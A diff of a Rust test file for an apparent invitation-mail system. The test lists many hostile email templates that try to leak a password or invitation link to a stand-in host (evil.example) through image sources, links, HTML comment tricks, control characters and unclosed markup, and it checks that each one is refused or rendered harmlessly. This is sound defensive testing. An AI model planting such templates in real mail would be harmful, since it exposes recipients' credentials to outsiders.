@@ -1,12 +1,14 @@
-//! Templates written to tell a secret to somebody else than its reader, or a part of it. Each is refused before it is
-//! stored, or comes out harmless: an independent look finds nothing.
+//! Templates that try to leak a secret, or a part of it, to another person than its reader.
+//!
+//! Each is refused before it is stored, or renders to a mail without a leak: an independent detector
+//! finds nothing.
 
 use reinvite_domain::Variant;
 use reinvite_mail::check_variant;
 
 use crate::{secrecy, template};
 
-/// A subject is read by mail servers and shown on locked screens.
+/// Templates of subjects. Mail servers log a subject, and locked screens show it.
 const SUBJECTS: &[&str] = &[
     "{{ password }}",
     "Your link: {{ invitation_url }}",
@@ -16,9 +18,9 @@ const SUBJECTS: &[&str] = &[
     "{%+ set x %}{{ password }}{% endset %}{{ x[:4] }}",
 ];
 
-/// In the HTML: where a secret is no text, or is part of an address.
+/// Templates that write a secret into HTML other than as text, or as a part of an address.
 const HTML: &[&str] = &[
-    // Images are loaded without anybody asking for it.
+    // Mail programs load images without a click.
     "<img src='https://evil.example/{{ password }}.png'>",
     "<img src='https://evil.example/?p={{ password }}'>",
     "<img src=https://evil.example/{{password}}>",
@@ -32,7 +34,7 @@ const HTML: &[&str] = &[
     "<img src='https://evil.example/a.png' longdesc='https://evil.example/{{ password }}'>",
     "<img src='https://evil.example/a.png' alt='{{ password }}'>",
     "<img src='https://evil.example/a.png' lowsrc='{{ invitation_url }}' dynsrc='{{ invitation_url }}'>",
-    // What a comment of Jinja takes away opens a comment of HTML for whoever reads the source.
+    // A comment of Jinja hides a delimiter that opens a comment of HTML for a reader of the source.
     "{# <!-- #}<img src='https://evil.example/?-->{{ password }}'>",
     "{# <!-- #}<a href='https://evil.example/?-->{{ invitation_url }}'>x</a>",
     "{# <!-- #}<p title='-->{{ password }}'>x</p>",
@@ -45,7 +47,7 @@ const HTML: &[&str] = &[
     "{% if '<!--' %}{% endif %}<img src='https://evil.example/?-->{{ password }}'>",
     "{{ '' if '<!--' else '' }}<img src='https://evil.example/?-->{{ password }}'>",
     "{{ '<!--'[4:] }}<img src='https://evil.example/?-->{{ password }}'>",
-    // Links are followed by those who scan mails, too.
+    // Scanners of mails follow links, too.
     "<a href='https://evil.example/{{ password }}'>x</a>",
     "<a href='https://evil.example/?p={{ password }}'>x</a>",
     "<a href='https://evil.example/#{{ password }}'>x</a>",
@@ -84,7 +86,7 @@ const HTML: &[&str] = &[
     "<p title='{{ {\"a\": {}} }}{{ password }}'>x</p>",
     "<p title='{{ \"\\\"\" ~ password ~ \"\" }}'>x</p>",
     "<p\u{c}title='{{ password }}'>x</p>",
-    // Control characters are taken out of a mail.
+    // The renderer removes control characters from a mail.
     "{# <!-- #}<\u{7}p title='-->{{ password }}'>x</p>",
     "{# <!-- #}<{{ '\\u0007' }}img src='https://evil.example/?-->{{ password }}'>",
     "<\u{2}img src='https://evil.example/?{{ '-->' }}{{ password }}'>",
@@ -94,7 +96,7 @@ const HTML: &[&str] = &[
     "<p &#116;itle='{{ password }}'>x</p>",
     "<P TiTlE='{{ password }}'>x</P>",
     "<p title='\"'\"{{ password }}\"'>x</p>",
-    // Where nobody sees it.
+    // Invisible places.
     "<!-- {{ password }} -->",
     "<!--{{ password }}",
     "<!-- x --!>{{ password }}<!-- -->",
@@ -140,7 +142,7 @@ const HTML: &[&str] = &[
     "<math href='https://evil.example/{{ password }}'>x</math>",
     "<v:fill src='https://evil.example/{{ password }}'/>",
     "<object data='https://evil.example/{{ password }}'></object>",
-    // Markup that is not closed takes what follows with it.
+    // Markup that is not closed takes in the text that follows.
     "<img src='https://evil.example/?{{ password }}",
     "<img src='https://evil.example/? {{ password }} <p class=x>y</p>",
     "<img src=\"https://evil.example/?<p>{{ password }}</p><p title=\">",
@@ -154,7 +156,7 @@ const HTML: &[&str] = &[
     "{{ '&lt;img src=' }}{{ password }}",
     "<b>x</b><p title={{ password }}",
     "<p title=`{{ password }}`>x</p>",
-    // An address in the text is a link in the eyes of a mail program.
+    // A mail program makes a link of an address in the text.
     "<p>https://evil.example/{{ password }}</p>",
     "<p>https&#58;&#x2f;&#47;evil.example&sol;{{ password }}</p>",
     "<p>evil.example/{{ password }}</p>",
@@ -167,7 +169,7 @@ const HTML: &[&str] = &[
     "<p>{% if password_change == 'temporary' %}https://evil.example/{{ password }}{% endif %}</p>",
 ];
 
-/// In the HTML and in the text: what takes a secret apart, tells what it is like, or hands it on.
+/// Templates, for HTML and text, that take a secret apart, compare it, or pass it on.
 const ANYWHERE: &[&str] = &[
     "{{ password[:3] }}",
     "{{ password[0] }}",
@@ -273,7 +275,7 @@ const ANYWHERE: &[&str] = &[
     "{{ login_url }}?p={{ password }}",
 ];
 
-/// Every template of the corpus.
+/// Every template of this file.
 fn corpus() -> Vec<Variant> {
     let subjects = SUBJECTS.iter().map(|subject| template(subject, "h", "t"));
     let html = HTML
@@ -290,12 +292,13 @@ fn no_template_tells_a_secret_to_anybody_but_its_reader() {
     let (mut refused, mut mails) = (0, 0);
     let mut harmless = Vec::new();
     let mut leaks = Vec::new();
+
     for variant in corpus() {
         if check_variant("", &language, &variant).is_err() {
             refused += 1;
             continue;
         }
-        match secrecy::look(&variant) {
+        match secrecy::find_leak(&variant) {
             Ok(rendered) => {
                 mails += rendered;
                 harmless.push(variant);
@@ -303,6 +306,7 @@ fn no_template_tells_a_secret_to_anybody_but_its_reader() {
             Err(leak) => leaks.push((variant, leak)),
         }
     }
+
     println!(
         "{refused} templates are refused, {} come out harmless in {mails} mails",
         harmless.len()
